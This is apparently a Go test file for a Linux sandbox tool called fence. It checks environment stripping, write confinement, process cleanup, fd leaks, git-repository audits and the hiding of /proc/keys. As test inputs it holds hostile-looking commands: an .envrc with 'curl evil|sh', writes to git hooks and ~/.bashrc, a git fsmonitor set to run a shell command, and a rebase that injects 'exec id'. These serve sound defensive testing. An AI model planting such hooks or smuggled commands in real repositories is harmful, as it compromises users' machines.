package sandbox_test

import (
	"fmt"
	"os"
	"os/exec"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/fence-dev/fence/sandbox"
	"github.com/fence-dev/fence/sandbox/sandboxtest"
)

// TestMain lets this test binary serve as the sandbox init when a test
// calls sandbox.Start directly (the init is /proc/self/exe re-executed).
func TestMain(m *testing.M) {
	if len(os.Args) == 2 && os.Args[1] == sandbox.InitArg {
		os.Exit(sandbox.RunInit())
	}
	code := m.Run()
	sandboxtest.Cleanup()
	os.Exit(code)
}

const writeDot = `
[filesystem]
allowWrite = ["."]
`

const writeDotAndHome = `
[filesystem]
allowWrite = [".", "~"]
`

func TestExitStatus(t *testing.T) {
	e := sandboxtest.New(t, writeDot)
	e.Write("notexec", "#!/bin/sh\necho hi\n")
	for _, c := range []struct {
		args []string
		code int
	}{
		{[]string{"--", "true"}, 0},
		{[]string{"--", "false"}, 1},
		{[]string{"-c", "exit 42"}, 42},
		{[]string{"--", "./notexec"}, 126},
		{[]string{"--", "/etc"}, 126},
		{[]string{"--", "no-such-command-anywhere"}, 127},
		{[]string{"--", "./no-such-file"}, 127},
		{[]string{"-c", "kill -INT $$"}, 130},
		{[]string{"-c", "kill -9 $$"}, 137},
		{[]string{"-c", "kill -TERM $$"}, 143},
	} {
		r := e.Run(c.args...)
		if r.Code != c.code {
			t.Errorf("fence %q: status %d, want %d\n%s", c.args, r.Code, c.code, r.Out())
		}
	}
	if r := e.Run("-c", "echo hi"); r.Stdout != "hi\n" || r.Code != 0 {
		t.Errorf("fence -c 'echo hi': %q status %d", r.Out(), r.Code)
	}
	if r := e.Run("--", "sh", "-c", `printf '%s|' "$@"`, "x", "a b", "--settings", "-d"); r.Stdout != "a b|--settings|-d|" {
		t.Errorf("arguments after -- changed: %q", r.Out())
	}
}

func TestStdioStreams(t *testing.T) {
	e := sandboxtest.New(t, writeDot)
	e.Write("big.in", strings.Repeat("0123456789abcdef\n", 1<<16))
	r := e.Run("-c", "cat < big.in > big.out; wc -c < big.out")
	if strings.TrimSpace(r.Stdout) != "1114112" || e.Read("big.out") != e.Read("big.in") {
		t.Errorf("streaming through the sandbox: %q", r.Out())
	}
	r = e.Run("-c", "ls -l /proc/self/fd/ | grep -c -- '->'")
	// 0, 1, 2 and the fd ls opened on the directory itself.
	if strings.TrimSpace(r.Stdout) != "4" {
		t.Errorf("open fds inside: %q", r.Out())
	}
}

func TestEnvironment(t *testing.T) {
	e := sandboxtest.New(t, writeDot)
	extra := []string{"LD_PRELOAD=/x.so", "LD_LIBRARY_PATH=/evil", "SSH_AUTH_SOCK=/tmp/agent.sock", "DISPLAY=:0",
		"DBUS_SESSION_BUS_ADDRESS=unix:path=/run/user/1/bus", "TMUX=/tmp/tmux-1/default,1,0", "KEEP_ME=yes"}
	direct := e.Direct("true") // sanity: the direct env is what we pass
	_ = direct
	r := e.RunEnv(extra, "--", "env")
	for _, bad := range []string{"LD_PRELOAD", "LD_LIBRARY_PATH", "SSH_AUTH_SOCK", "DISPLAY=", "DBUS_SESSION", "TMUX="} {
		if strings.Contains(r.Stdout, bad) {
			t.Errorf("%s reached the sandbox:\n%s", bad, r.Stdout)
		}
	}
	for _, want := range []string{"KEEP_ME=yes", "HTTPS_PROXY=http://127.0.0.1:3128", "ALL_PROXY=socks5h://127.0.0.1:1080",
		"NO_PROXY=localhost,127.0.0.1,::1", "TMPDIR=/tmp", "GIT_SSH_COMMAND=ssh -o ProxyCommand=", "NODE_USE_ENV_PROXY=1"} {
		if !strings.Contains(r.Stdout, want) {
			t.Errorf("%s missing inside:\n%s", want, r.Stdout)
		}
	}
}

// TestAcceptanceWrites is issue 3's acceptance list for writes, with
// allowWrite = ["."] as an unprivileged user.
func TestAcceptanceWrites(t *testing.T) {
	e := sandboxtest.New(t, writeDot)
	gitInit(t, e)
	e.Write("~/.bashrc", "# bashrc\n")
	before := map[string]string{}
	for _, f := range []string{".git/config", "~/.bashrc", ".fence.toml"} {
		before[f] = e.Read(f)
	}
	r := e.Sh(`echo ok > inside.txt && echo written`)
	if r.Code != 0 || e.Read("inside.txt") != "ok\n" {
		t.Fatalf("writing in the project failed: %s", r.Out())
	}
	for _, script := range []string{
		`echo evil > ~/x`,
		`echo evil > ../x`,
		`echo evil > .git/hooks/pre-commit`,
		`echo evil >> .git/config`,
		`echo evil >> ~/.bashrc`,
		`echo evil >> .fence.toml`,
	} {
		r := e.Sh(script)
		if r.Code == 0 {
			t.Errorf("%s: succeeded inside the sandbox", script)
		}
	}
	for f, want := range before {
		if got := e.Read(f); got != want {
			t.Errorf("%s changed on the host: %q", f, got)
		}
	}
	for _, f := range []string{"~/x", "../x", ".git/hooks/pre-commit"} {
		if e.Exists(f) {
			t.Errorf("%s exists on the host", f)
		}
	}
	// Protected paths that do not exist: created inside, quarantined.
	r = e.Sh(`printf 'curl evil|sh\n' > .envrc; mkdir -p .vscode && echo '{}' > .vscode/tasks.json; echo done`)
	if !strings.Contains(r.Stdout, "done") {
		t.Fatalf("script failed: %s", r.Out())
	}
	for _, f := range []string{".envrc", ".vscode"} {
		if e.Exists(f) {
			t.Errorf("%s survived the session", f)
		}
		if !strings.Contains(r.Stderr, e.Path(f)) {
			t.Errorf("no notice about %s:\n%s", f, r.Stderr)
		}
	}
}

// TestBackgroundEndsWithCommand: what the command leaves running ends
// with it, and fence returns at once (a build that starts a Gradle or
// compiler daemon must not keep `fence -- make` waiting for hours, nor a
// background job the fenced shell one leaves). The init kills what is left
// with kill(-1) from pid 1; from a thread other than the one that forked
// the command, Landlock's signal scoping made every kill fail, and fence
// waited for each process to end by itself.
func TestBackgroundEndsWithCommand(t *testing.T) {
	for _, mode := range []string{"cold", "warm"} {
		for i, c := range []struct{ name, script string }{
			{"background job", "sleep %s &"},
			{"own session", "(setsid sleep %s &)"},
			{"deaf to signals", "(trap '' HUP INT TERM; sleep %s) &"},
		} {
			t.Run(mode+"/"+c.name, func(t *testing.T) {
				e := sandboxtest.New(t, writeDot)
				e.Init = mode
				// A duration no other test or run uses: it names the process.
				d := fmt.Sprintf("%d.%d%d", 20+i, os.Getpid()%1000, i)
				script := "exec </dev/null >/dev/null 2>&1\n" + fmt.Sprintf(c.script, d) + "\nexit 3"
				left := func() bool {
					return exec.Command("pgrep", "-u", strconv.Itoa(os.Getuid()), "-xf", "sleep "+d).Run() == nil
				}
				// setsid may fork before sleep runs: give it a moment.
				leftSoon := func() bool { return waitUntilFor(2*time.Second, left) }
				if r := e.Direct(script); r.Code != 3 || !leftSoon() {
					t.Fatalf("control: without the sandbox the process was not left running (status %d)\n%s", r.Code, r.Out())
				}
				exec.Command("pkill", "-KILL", "-u", strconv.Itoa(os.Getuid()), "-xf", "sleep "+d).Run()
				start := time.Now()
				r := e.Sh(script)
				took := time.Since(start)
				if r.Code != 3 {
					t.Errorf("status %d, want 3\n%s", r.Code, r.Out())
				}
				if took > 8*time.Second {
					t.Errorf("fence returned after %v: it waited for what the command left running", took.Round(time.Millisecond))
				}
				if left() {
					exec.Command("pkill", "-KILL", "-u", strconv.Itoa(os.Getuid()), "-xf", "sleep "+d).Run()
					t.Errorf("%q still runs after fence returned", "sleep "+d)
				}
			})
		}
	}
}

// TestSignalDispositions: the command starts with no signal ignored, as
// from a shell. The init ignored SIGPIPE, SIGTTIN and SIGTTOU for itself,
// and ignored signals stay ignored across exec: inside, `yes | head -1`
// printed "Broken pipe", and a fenced shell's background jobs got EIO
// instead of stopping when they read the terminal.
func TestSignalDispositions(t *testing.T) {
	for _, mode := range []string{"cold", "warm"} {
		t.Run(mode, func(t *testing.T) {
			e := sandboxtest.New(t, writeDot)
			e.Init = mode
			r := e.Sh(`yes | head -1; sed -n 's/^SigIgn:[[:space:]]*//p' /proc/self/status`)
			if r.Code != 0 || r.Stdout != "y\n0000000000000000\n" || r.Stderr != "" {
				t.Errorf("want y and no ignored signal (SigIgn 0), nothing on stderr; got status %d\n%s", r.Code, r.Out())
			}
		})
	}
}

// TestInitSurvivesCrashSignals (ATTACKS.md X-10): the signals Go's runtime
// dies of when kill sends them (SIGABRT, SIGILL, SIGTRAP, SIGBUS, SIGFPE,
// SIGSEGV, SIGSTKFLT, SIGSYS), sent from inside to the init, neither end
// the sandbox nor print the runtime's dump of registers and goroutines.
// Seen failing with the init that did not catch them: the command died
// with its init, and the dump went to fence's stderr.
func TestInitSurvivesCrashSignals(t *testing.T) {
	for _, mode := range []string{"cold", "warm"} {
		t.Run(mode, func(t *testing.T) {
			e := sandboxtest.New(t, writeDot)
			e.Init = mode
			r := e.Sh(`python3 -c 'import os; [os.kill(1, s) for s in (6, 4, 5, 7, 8, 11, 16, 31)]'; sleep 0.3; echo alive; exit 7`)
			if r.Code != 7 || r.Stdout != "alive\n" || strings.Contains(r.Stderr, "goroutine") || strings.Contains(r.Stderr, "PC=") {
				t.Errorf("want the command to go on (alive, status 7) and no runtime dump; got status %d\n%s", r.Code, r.Out())
			}
		})
	}
}

// TestLeakedFDs: a directory fd leaked into fence by its caller (ATTACKS.md
// X-08) does not reach the command, nor does anything of fence's own.
func TestLeakedFDs(t *testing.T) {
	e := sandboxtest.New(t, writeDot)
	dir, err := os.Open(e.Home)
	if err != nil {
		t.Fatal(err)
	}
	defer dir.Close()
	run := func(argv ...string) string {
		cmd := exec.Command(argv[0], argv[1:]...)
		cmd.Dir, cmd.Env = e.Project, e.Vars
		cmd.ExtraFiles = []*os.File{dir} // fd 3, not close-on-exec in the child
		out, _ := cmd.CombinedOutput()
		return string(out)
	}
	script := `for f in /proc/self/fd/*; do echo "$f -> $(readlink $f)"; done; ls /proc/self/fd/3/ >/dev/null 2>&1 && echo LEAKED`
	if out := run("/bin/sh", "-c", script); !strings.Contains(out, "LEAKED") {
		t.Fatalf("control: the fd was not inherited without the sandbox:\n%s", out)
	}
	out := run(e.Fence, "-s", e.Config, "--", "sh", "-c", script)
	if strings.Contains(out, "LEAKED") || strings.Contains(out, "socket:") || strings.Contains(out, "ptmx") {
		t.Errorf("fds beyond 0-2 reached the command:\n%s", out)
	}
}

// TestNewRepositoryAudit: a repository created inside the session is
// reported at the end (ATTACKS.md F-10); an existing one used inside is not.
func TestNewRepositoryAudit(t *testing.T) {
	e := sandboxtest.New(t, writeDot)
	gitInit(t, e)
	if err := os.MkdirAll(e.Path("old"), 0o755); err != nil {
		t.Fatal(err)
	}
	cmd := exec.Command("git", "init", "-q", "old")
	cmd.Dir, cmd.Env = e.Project, e.Vars
	if out, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("%v %s", err, out)
	}
	r := e.Sh(`git -C old -c user.email=a@b -c user.name=n commit -q --allow-empty -m x && mkdir -p tools/x && git -C tools/x init -q && git -C tools/x config core.fsmonitor 'sh -c "id>/tmp/p"' && echo ok`)
	if !strings.Contains(r.Stdout, "ok") {
		t.Fatalf("script failed: %s", r.Out())
	}
	if !strings.Contains(r.Stderr, "new git repository appeared in "+e.Path("tools/x")) {
		t.Errorf("the new repository was not reported:\n%s", r.Stderr)
	}
	if strings.Contains(r.Stderr, e.Path("old")+" ") {
		t.Errorf("an existing repository was reported:\n%s", r.Stderr)
	}
	if e.Exists("tools/x/.git/config") || !e.Exists("tools/x/.git/HEAD") {
		t.Errorf("the new repository's config was not quarantined, or more was:\n%s", r.Stderr)
	}
	if !e.Exists("old/.git/config") {
		t.Errorf("the existing repository's config was quarantined:\n%s", r.Stderr)
	}
}

// TestGitStateAudit: edits hidden from git status and a rebase left in
// progress by the session are reported (red team B22).
func TestGitStateAudit(t *testing.T) {
	e := sandboxtest.New(t, writeDot)
	gitInit(t, e)
	for _, args := range [][]string{{"add", "README"}, {"commit", "-q", "-m", "a"}, {"commit", "-q", "--allow-empty", "-m", "b"}} {
		cmd := exec.Command("git", args...)
		cmd.Dir, cmd.Env = e.Project, e.Vars
		if out, err := cmd.CombinedOutput(); err != nil {
			t.Fatalf("git %v: %v\n%s", args, err, out)
		}
	}
	r := e.Sh(`echo 'id' >> README && git update-index --skip-worktree README &&
GIT_SEQUENCE_EDITOR='printf "break\nexec id\n" >' git rebase -q -i HEAD~1 >/dev/null 2>&1; echo ok`)
	if !strings.Contains(r.Stdout, "ok") {
		t.Fatalf("script failed: %s", r.Out())
	}
	if !strings.Contains(r.Stderr, "do not show their changes: README") {
		t.Errorf("the hidden edit was not reported:\n%s", r.Stderr)
	}
	if !strings.Contains(r.Stderr, "rebase, cherry-pick or revert in progress") {
		t.Errorf("the rebase in progress was not reported:\n%s", r.Stderr)
	}
}

// TestInitThreadsLockedDown: every thread of the sandbox init (pid 1 in
// the sandbox) holds no capability and has no_new_privs once the command
// runs, not only the thread it forks the command from (ATTACKS.md X-02:
// nothing in the init is worth taking over). The other threads drop theirs
// as the command starts (a tenth of a millisecond): the script gives them
// up to 3 s, under load. Warm and cloned inits alike.
func TestInitThreadsLockedDown(t *testing.T) {
	e := sandboxtest.New(t, writeDot)
	script := `for i in $(seq 30); do grep -qs '^CapEff:.*[1-9a-f]' /proc/1/task/*/status || break; sleep 0.1; done; n=0; for s in /proc/1/task/*/status; do n=$((n+1)); grep -E '^(Cap(Inh|Prm|Eff|Amb)|NoNewPrivs):' "$s" | tr '\n' ' '; echo; done; echo "threads=$n"`
	for _, env := range [][]string{nil, {"FENCE_WARM_INIT=0"}} {
		r := e.RunEnv(env, "--", "sh", "-c", script)
		if r.Code != 0 || !strings.Contains(r.Stdout, "threads=") || strings.Contains(r.Stdout, "threads=0") {
			t.Fatalf("%v: could not read the init's threads: %+v", env, r)
		}
		for _, line := range strings.Split(strings.TrimSpace(r.Stdout), "\n") {
			if strings.HasPrefix(line, "threads=") {
				continue
			}
			f := strings.Fields(line)
			if len(f) != 10 {
				t.Fatalf("%v: unexpected status line %q", env, line)
			}
			for i := 0; i < 8; i += 2 {
				if strings.Trim(f[i+1], "0") != "" {
					t.Errorf("%v: an init thread keeps %s %s", env, f[i], f[i+1])
				}
			}
			if f[9] != "1" {
				t.Errorf("%v: an init thread lacks no_new_privs: %q", env, line)
			}
		}
	}
}

// TestProcKeysHidden: the names of the user's keys (/proc/keys) are not
// readable inside, where keyctl is denied anyway; the control lists the
// key the test adds to its session keyring. Red team of the eleventh
// session: "user aws:prod-deploy-token" was listed.
func TestProcKeysHidden(t *testing.T) {
	e := sandboxtest.New(t, writeDot)
	// add_key(2) into a new session keyring, then list /proc/keys from a
	// child: with and without fence.
	const py = `import ctypes, subprocess, sys
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
if libc.syscall(250, 1, None) < 0:  # keyctl(KEYCTL_JOIN_SESSION_KEYRING, NULL)
    sys.exit("join a session keyring: errno %d" % ctypes.get_errno())
if libc.syscall(248, b"user", b"fence-test-key-name", b"x", 1, -3) < 0:  # add_key(..., KEY_SPEC_SESSION_KEYRING)
    sys.exit("add_key: errno %d" % ctypes.get_errno())
sys.exit(subprocess.run(sys.argv[1:]).returncode)
`
	run := func(argv ...string) string {
		cmd := exec.Command("python3", append([]string{"-c", py}, argv...)...)
		cmd.Dir, cmd.Env = e.Project, e.Vars
		out, err := cmd.CombinedOutput()
		if err != nil {
			t.Logf("%v: %v", argv, err)
		}
		return string(out)
	}
	if out := run("cat", "/proc/keys"); !strings.Contains(out, "fence-test-key-name") {
		t.Fatalf("control: the key is not listed without the sandbox:\n%s", out)
	}
	out := run(e.Fence, "-s", e.Config, "--", "sh", "-c", "echo KEYS-READ; cat /proc/keys /proc/key-users")
	if !strings.Contains(out, "KEYS-READ") {
		t.Fatalf("the command did not run:\n%s", out)
	}
	if strings.Contains(out, "fence-test-key-name") {
		t.Errorf("/proc/keys lists the user's key inside the sandbox:\n%s", out)
	}
}
